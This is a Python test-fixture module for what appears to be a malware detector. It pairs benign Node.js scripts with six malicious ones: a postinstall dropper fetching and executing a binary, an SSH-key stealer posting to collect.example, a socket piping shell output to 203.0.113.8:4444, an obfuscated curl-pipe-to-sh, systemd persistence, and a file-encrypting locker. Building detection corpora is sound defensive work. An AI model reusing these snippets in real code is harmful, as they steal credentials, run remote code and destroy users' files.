"""JavaScript for node: what acts badly, harmless outside of a guest, and what is lively but honest."""

from __future__ import annotations

from tools.corpus.detections.case import Case
from tools.corpus.detections.linux import linux

NODE_BAD: tuple[Case, ...] = (
    linux(
        "postinstall.js",
        "javascript",
        "const https = require('https'), fs = require('fs'), { execFile } = require('child_process');\n"
        "https.get('https://cdn.example/agent.bin', (answer) => {\n"
        "  const file = fs.createWriteStream('/tmp/.agent', { mode: 0o755 });\n"
        "  answer.pipe(file).on('close', () => execFile('/tmp/.agent', () => {}));\n});\n",
        "drop-and-connect",
    ),
    linux(
        "stealer.mjs",
        "javascript",
        "import { readFileSync } from 'node:fs';\nimport os from 'node:os';\n"
        "const key = readFileSync(`${os.homedir()}/.ssh/id_rsa`, 'utf8');\n"
        "await fetch('https://collect.example/k', { method: 'POST', body: key });\n",
        "sends-credentials",
    ),
    linux(
        "shell.js",
        "javascript",
        "#!/usr/bin/env node\nconst s = require('net').connect(4444, '203.0.113.8');\n"
        "s.on('error', () => {});\nrequire('child_process').spawn('/bin/sh', ['-c', 'id'])\n"
        "  .stdout.pipe(s);\n",
        "connects-to-odd-port",
    ),
    linux(
        "hidden.js",
        "javascript",
        "const r = globalThis['pro' + 'cess']['main' + 'Module']['req' + 'uire'];\n"
        "const run = r(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\n"
        "run.execSync(['cu', 'rl -s http://203.0.', '113.4/i | sh'].join(''));\n",
        "download-piped-to-interpreter",
    ),
    linux(
        "autostart.js",
        "javascript",
        "var fs = require('fs'), home = process.env.HOME;\n"
        "fs.mkdirSync(home + '/.config/systemd/user', { recursive: true });\n"
        "fs.writeFileSync(home + '/.config/systemd/user/u.service',\n"
        "  '[Service]\\nExecStart=/usr/bin/node ' + home + '/.cache/u.js\\n');\n",
        "starts-suspect-with-session",
    ),
    linux(
        "locker.js",
        "javascript",
        "const fs = require('fs'), path = require('path'), crypto = require('crypto');\n"
        "const folder = path.join(process.env.HOME, 'Documents');\n"
        "for (const name of fs.readdirSync(folder)) {\n  const file = path.join(folder, name);\n"
        "  if (!fs.statSync(file).isFile()) continue;\n"
        "  const c = crypto.createCipheriv('aes-256-ctr', Buffer.alloc(32, 7), Buffer.alloc(16));\n"
        "  fs.writeFileSync(file + '.locked', c.update(fs.readFileSync(file)));\n"
        "  fs.unlinkSync(file);\n}\n",
        "rewrites-documents",
    ),
)
"""Each must be malicious."""

NODE_HONEST: tuple[Case, ...] = (
    linux(
        "report.js",
        "javascript",
        "const fs = require('fs');\n"
        "const rows = fs.readFileSync(process.env.HOME + '/Documents/customers.csv', 'utf8');\n"
        "const cities = rows.trim().split('\\n').slice(1).map((row) => row.split(',')[1]);\n"
        "fs.writeFileSync('cities.json', JSON.stringify(cities));\nconsole.log(cities.length);\n",
    ),
    linux(
        "build.mjs",
        "javascript",
        "import { mkdirSync, writeFileSync } from 'node:fs';\nimport { join } from 'node:path';\n"
        "mkdirSync('dist', { recursive: true });\n"
        "writeFileSync(join('dist', 'page.html'), `<title>${new Date().getFullYear()}</title>`);\n"
        "console.log('built');\n",
    ),
    linux(
        "library.js",
        "javascript",
        "(function (root, factory) {\n"
        "  if (typeof module === 'object' && module.exports) module.exports = factory();\n"
        "  else root.sum = factory();\n"
        "})(this, function () { return (list) => list.reduce((a, b) => a + b, 0); });\n",
    ),
    linux(
        "test.js",
        "javascript",
        "#!/usr/bin/env node\n'use strict';\nconst assert = require('assert');\n"
        "const { spawnSync } = require('child_process');\n"
        "assert.strictEqual(spawnSync('echo', ['ok']).stdout.toString(), 'ok\\n');\n"
        "setTimeout(() => console.log('1 passed'), 100);\n",
    ),
    linux(
        "versions.js",
        "javascript",
        "const { execFile } = require('child_process'), https = require('https');\n"
        "execFile('uname', ['-r'], (error, kernel) => https.get('https://api.example/latest.json',\n"
        "  (answer) => answer.on('data', (latest) => console.log(kernel.trim(), String(latest)))));\n",
    ),
    linux(
        "zip.js",
        "javascript",
        "const zlib = require('node:zlib'), { createHash } = require('node:crypto');\n"
        "const packed = zlib.gzipSync(Buffer.from('text '.repeat(999)));\n"
        "console.log(packed.length, createHash('sha256').update(packed).digest('hex'));\n",
    ),
)
"""Each must be clean."""
